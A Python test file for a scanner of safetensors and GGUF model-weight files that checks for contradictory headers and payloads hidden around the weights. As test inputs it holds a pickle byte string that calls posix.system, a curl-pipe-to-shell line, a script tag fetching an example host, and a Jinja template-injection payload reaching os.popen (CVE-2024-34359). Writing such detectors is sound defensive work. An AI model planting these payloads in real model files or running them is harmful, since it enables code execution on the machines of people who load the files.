"""Files of plain weights are checked for what hides around the weights, and for headers that contradict the file."""

import json
import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seatrial.model.artifacts import Artifact, Verdict
from seatrial.read.artifacts.router import inspect

TENSOR = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}
EVIL = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00trueq\x00\x85R."


def safetensors(header: object, rest: bytes = bytes(16)) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + rest


def told(data: bytes, name: str = "model.safetensors") -> tuple[Verdict, list[str]]:
    found = inspect(name, data)
    return found.verdict, [one.what for one in found.findings]


def test_weights_that_fit_their_header_are_clean_under_any_name() -> None:
    two = {"a": TENSOR, "b": {"dtype": "BF16", "shape": [], "data_offsets": [16, 18]}, "__metadata__": {"format": "pt"}}

    for name in ("model.safetensors", "model.bin"):
        found = inspect(name, safetensors(two, bytes(18)))
        assert (found.format, found.verdict, found.gaps) == ("safetensors", Verdict.CLEAN, ())


@pytest.mark.parametrize(
    ("header", "what"),
    [
        ({"a": TENSOR, "b": {**TENSOR, "data_offsets": [8, 24]}}, "a tensor shares bytes with the tensor a"),
        ({"a": {**TENSOR, "shape": [3, 3]}}, "a tensor has another size than its type and shape ask for"),
        ({"a": {**TENSOR, "data_offsets": [8, 24]}}, "a tensor lies behind the end of the file"),
        ({"a": {**TENSOR, "data_offsets": [16, 0]}}, "a tensor has no offsets, type and shape that can be read"),
        ({"a": {**TENSOR, "dtype": "Q8"}}, "a tensor has a type or a shape that is not known"),
        ({"a": {**TENSOR, "shape": [-2, -2]}}, "a tensor has a type or a shape that is not known"),
        ({"a": "text"}, "a tensor has no offsets, type and shape that can be read"),
    ],
)
def test_a_header_that_contradicts_the_file_is_suspicious(header: dict[str, object], what: str) -> None:
    rest = bytes(24) if "b" in header else bytes(16)

    verdict, said = told(safetensors(header, rest))

    assert (verdict, said[0]) == (Verdict.SUSPICIOUS, what)


@pytest.mark.parametrize(
    "data",
    [
        struct.pack("<Q", 1 << 60) + b"{}",
        struct.pack("<Q", 500) + b"{}",
        safetensors(b"not json"),
        safetensors(b"[1]"),
        safetensors(b'{"a": {}, "a": {}}'),
        safetensors(b'{"a": ' + b"[" * 100_000),
        b"{}",
        b"",
    ],
    ids=["huge", "long", "text", "list", "twice", "deep", "short", "empty"],
)
def test_a_header_that_cannot_be_read_is_a_gap(data: bytes) -> None:
    assert told(data) == (Verdict.NOT_FULLY_READ, [])


def test_bytes_behind_the_weights_are_suspicious_and_a_pickle_among_them_is_read() -> None:
    assert told(safetensors({"a": TENSOR}, bytes(40)))[0] is Verdict.SUSPICIOUS

    found = inspect("model.safetensors", safetensors({"a": TENSOR}, bytes(16) + EVIL))
    assert found.verdict is Verdict.DANGEROUS
    assert "system" in found.findings[0].what


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("pt", Verdict.CLEAN),
        ("trained by evaluate (2 epochs); see README", Verdict.CLEAN),
        ("<script>fetch('https://a.example')</script>", Verdict.SUSPICIOUS),
        ("import os\nos.system('x')", Verdict.SUSPICIOUS),
        ("curl https://a.example/x | sh", Verdict.SUSPICIOUS),
    ],
)
def test_metadata_that_is_a_program_is_suspicious(value: str, expected: Verdict) -> None:
    assert told(safetensors({"__metadata__": {"note": value}, "a": TENSOR}))[0] is expected


def text(value: str) -> bytes:
    return struct.pack("<Q", len(value.encode())) + value.encode()


def gguf(
    *pairs: tuple[str, int, bytes],
    tensors: tuple[tuple[str, int, int], ...] = (("w", 32, 0),),
    weights: int = 128,
    keys: int = -1,
) -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(pairs) if keys < 0 else keys)
    head += b"".join(text(key) + struct.pack("<I", kind) + value for key, kind, value in pairs)
    head += b"".join(text(name) + struct.pack("<IQIQ", 1, size, 0, at) for name, size, at in tensors)
    return head + bytes(-len(head) % 32) + bytes(weights)


PLAIN = (
    ("general.architecture", 8, text("llama")),
    ("llama.block_count", 4, struct.pack("<I", 2)),
    ("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 3) + text("a") + text("b") + text("c")),
    ("tokenizer.ggml.scores", 9, struct.pack("<IQ", 6, 3) + bytes(12)),
    ("tokenizer.chat_template", 8, text("{% for m in messages %}{{ m['content'] }}{% endfor %}")),
)


def test_a_gguf_file_that_fits_its_counts_is_clean() -> None:
    found = inspect("model.gguf", gguf(*PLAIN))

    assert (found.format, found.verdict, found.gaps) == ("GGUF", Verdict.CLEAN, ())


def test_a_chat_template_of_gguf_that_reaches_for_the_interpreter_is_dangerous() -> None:
    evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    found = inspect("model.gguf", gguf(*PLAIN[:4], ("tokenizer.chat_template.tool_use", 8, text(evil))))

    assert found.verdict is Verdict.DANGEROUS
    assert found.findings[0].key == "tokenizer.chat_template.tool_use, line 1"
    assert "CVE-2024-34359" in found.findings[0].safer


@pytest.mark.parametrize(
    "data",
    [
        gguf(*PLAIN, keys=1 << 60),
        gguf(*PLAIN, keys=6),
        gguf(("a", 9, struct.pack("<IQ", 8, 1 << 50))),
        gguf(("a", 77, b"1234")),
        gguf(("a", 8, struct.pack("<Q", 1 << 62))),
        gguf(("a", 9, (struct.pack("<IQ", 9, 1)) * 200)),
        b"GGUF" + struct.pack("<I", 99) + bytes(100),
        b"GGUF",
        gguf(*PLAIN)[:150],
    ],
    ids=["keys", "more", "list", "type", "text", "deep", "version", "short", "cut"],
)
def test_a_gguf_header_that_does_not_fit_is_a_gap(data: bytes) -> None:
    assert inspect("model.gguf", data).verdict is Verdict.NOT_FULLY_READ


@pytest.mark.parametrize(
    ("tensors", "weights"),
    [((("w", 32, 0),), 100), ((("w", 32, 0), ("v", 32, 64)), 256), ((("w", 32, 1 << 60),), 128)],
    ids=["cut", "shared", "far"],
)
def test_tensors_of_gguf_that_share_bytes_or_lie_outside_are_suspicious(
    tensors: tuple[tuple[str, int, int], ...], weights: int
) -> None:
    assert inspect("model.gguf", gguf(*PLAIN, tensors=tensors, weights=weights)).verdict is Verdict.SUSPICIOUS


def never_raises(found: Artifact) -> bool:
    return found.verdict in Verdict


@given(st.sampled_from([gguf(*PLAIN), safetensors({"a": TENSOR}), safetensors({"a": 1})]), st.data())
def test_changed_weights_raise_nothing(whole: bytes, data: st.DataObject) -> None:
    at = data.draw(st.integers(0, len(whole)))
    changed = whole[:at] + data.draw(st.binary(max_size=9)) + whole[at + data.draw(st.integers(0, 9)) :]

    assert never_raises(inspect("model.safetensors", changed))
    assert never_raises(inspect("model.gguf", changed))


@given(st.dictionaries(st.text(max_size=5), st.recursive(st.none() | st.integers() | st.text(max_size=4),
                       lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
                           st.sampled_from(["dtype", "shape", "data_offsets"]), inner), max_leaves=9)))  # fmt: skip
def test_any_header_of_safetensors_raises_nothing(header: dict[str, object]) -> None:
    assert never_raises(inspect("model.safetensors", safetensors(header)))
